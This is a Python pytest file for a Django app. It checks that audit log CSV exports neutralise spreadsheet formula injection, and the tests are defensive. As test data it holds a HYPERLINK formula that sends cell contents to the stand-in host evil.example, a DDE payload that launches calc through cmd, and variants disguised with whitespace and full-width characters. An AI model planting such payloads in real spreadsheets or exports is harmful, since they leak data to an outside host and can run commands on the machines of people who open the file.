"""A CSV export opens in a spreadsheet with no live formula, and still verifies offline."""

import csv
import io

import pytest
from django.urls import reverse

from auditlogs import record
from auditlogs.recording.context import Actor, ActorType, acting_as
from integrations.serializers import FORMULA_TRIGGERS, neutralised
from tests.helpers.clients import signed_in
from tools import verify_audit_export as verifier

ATTACK = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
# Formulas behind spaces or a line break that an import may trim, and in full-width forms.
DISGUISED = (" " + ATTACK, "\n" + ATTACK, " \u3000@SUM(1+1)", "\uff1dHYPERLINK(\"x\")",
             "\uff0b1", "\uff0d1", "\uff20SUM(1)")


def export(owner, fmt="csv"):
    client = signed_in(owner)
    response = client.get(reverse("audit_log_export", args=["acme", fmt]) + "?range=all")
    return b"".join(response.streaming_content).decode()


@pytest.fixture
def crafted(acme, owner, alpha, bot):
    """What an attacker controls without an account, and what a member may name things."""
    attacker = Actor(type=ActorType.USER, id=None, label="+cmd|' /C calc'!A0")
    with acting_as(attacker) as context:
        context.user_agent = ATTACK
        record("user.login_failed", organization=acme, target=owner,
               metadata={"attempted_email": "@SUM(1+1)"})
    record("chatbot.created", organization=acme, project=alpha,
           target=bot, changes={"name": [None, "-2+3"]})
    record("project.updated", organization=acme, project=alpha,
           target=alpha, changes={"name": ["'quoted", "\tTabbed"]})
    for disguised in DISGUISED:
        with acting_as(attacker) as context:
            context.user_agent = disguised
            record("user.login_failed", organization=acme, target=owner)


def spreadsheet_cells(body: str):
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def test_no_cell_of_the_csv_would_be_evaluated(owner, crafted):
    cells = spreadsheet_cells(export(owner))
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + ATTACK in cells
    assert "'+cmd|' /C calc'!A0" in cells
    assert {"'" + disguised for disguised in DISGUISED} <= set(cells)


def test_the_neutralised_csv_verifies_and_reads_back_the_recorded_values(
    owner, crafted, tmp_path
):
    path = tmp_path / "export.csv"
    path.write_text(export(owner), encoding="utf-8")
    events, _ = verifier.read_filtered_export(str(path))
    assert verifier.filtered_export_problems(events, None) == []
    assert verifier.main([str(path)]) == 0
    assert ATTACK in {event["user_agent"] for event in events}
    assert "+cmd|' /C calc'!A0" in {event["actor_label"] for event in events}
    assert set(DISGUISED) <= {event["user_agent"] for event in events}


def test_ndjson_stays_as_recorded(owner, crafted):
    assert ATTACK.replace('"', '\\"') in export(owner, "ndjson")
    assert "'=" not in export(owner, "ndjson")


@pytest.mark.parametrize("first", FORMULA_TRIGGERS)
def test_each_trigger_gets_one_apostrophe(first):
    assert neutralised(first + "x") == "'" + first + "x"


@pytest.mark.parametrize("disguised", DISGUISED)
def test_a_formula_behind_spaces_or_in_full_width_gets_one_apostrophe(disguised):
    assert neutralised(disguised) == "'" + disguised


def test_other_cells_are_left_alone():
    assert neutralised("admin@acme.test") == "admin@acme.test"
    assert neutralised(12) == 12 and neutralised(None) is None
